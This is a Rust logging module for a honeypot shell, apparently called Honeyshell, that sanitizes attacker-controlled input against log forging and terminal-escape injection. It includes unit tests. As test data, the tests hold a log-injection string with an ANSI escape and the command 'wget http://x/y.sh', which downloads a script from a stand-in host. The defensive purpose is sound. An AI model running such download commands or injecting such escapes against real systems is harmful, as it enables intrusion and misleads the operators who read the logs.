//! Logging helpers for Honeyshell
//!
//! Everything the interpreter logs about a session is attacker-controlled:
//! input lines, file names, variable values. Before any of it reaches a log
//! line or an event it is passed through [`LogConfig::sanitize`], which
//! escapes control characters (so a client cannot forge log lines or inject
//! terminal escapes into an operator's console) and truncates long values.
//!
//! # Log Levels
//!
//! - **WARN**: staging-file failures, quota hits
//! - **INFO**: session lifecycle, command input
//! - **DEBUG**: resolution, redirection setup, pipeline stages
//! - **TRACE**: tokenizer and sink internals

use serde::Deserialize;
use std::borrow::Cow;

/// Configuration for logging behavior
#[derive(Debug, Clone, Deserialize)]
#[serde(default)]
pub struct LogConfig {
    /// Maximum length of logged values before truncation (default: 1024)
    pub max_value_length: usize,

    /// Whether command input is included in `tracing` output (default: true)
    ///
    /// Events sent to the [`EventSink`](crate::EventSink) always carry it.
    pub log_input: bool,
}

impl Default for LogConfig {
    fn default() -> Self {
        Self {
            max_value_length: 1024,
            log_input: true,
        }
    }
}

impl LogConfig {
    /// Create a new log configuration with defaults
    pub fn new() -> Self {
        Self::default()
    }

    /// Set maximum length for logged values
    pub fn max_value_length(mut self, len: usize) -> Self {
        self.max_value_length = len;
        self
    }

    /// Keep command input out of `tracing` output
    pub fn hide_input(mut self) -> Self {
        self.log_input = false;
        self
    }

    /// Escape and truncate an attacker-controlled value for logging.
    pub fn sanitize(&self, value: &str) -> String {
        let escaped = sanitize_for_log(value);
        self.truncate(&escaped).into_owned()
    }

    fn truncate<'a>(&self, value: &'a str) -> Cow<'a, str> {
        if value.len() <= self.max_value_length {
            return Cow::Borrowed(value);
        }
        let mut end = self.max_value_length;
        while end > 0 && !value.is_char_boundary(end) {
            end -= 1;
        }
        Cow::Owned(format!("{}...[truncated]", &value[..end]))
    }
}

/// Sanitize a string for safe logging
///
/// Newlines, carriage returns and tabs become their escape sequences; every
/// other control character (ESC included) is rendered as `\xNN`.
pub fn sanitize_for_log(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_log_injection_prevention() {
        let malicious = "normal\n[ERROR] fake log entry\r\x1b[2J";
        let sanitized = sanitize_for_log(malicious);
        assert!(!sanitized.contains('\n'));
        assert!(!sanitized.contains('\r'));
        assert!(!sanitized.contains('\x1b'));
        assert_eq!(sanitized, "normal\\n[ERROR] fake log entry\\r\\x1b[2J");
    }

    #[test]
    fn test_truncation() {
        let config = LogConfig::new().max_value_length(10);
        let sanitized = config.sanitize("this is a very long value");
        assert_eq!(sanitized, "this is a ...[truncated]");
    }

    #[test]
    fn test_truncation_respects_char_boundary() {
        let config = LogConfig::new().max_value_length(2);
        assert_eq!(config.sanitize("éé"), "é...[truncated]");
    }

    #[test]
    fn test_short_value_untouched() {
        let config = LogConfig::new();
        assert_eq!(config.sanitize("wget http://x/y.sh"), "wget http://x/y.sh");
    }
}
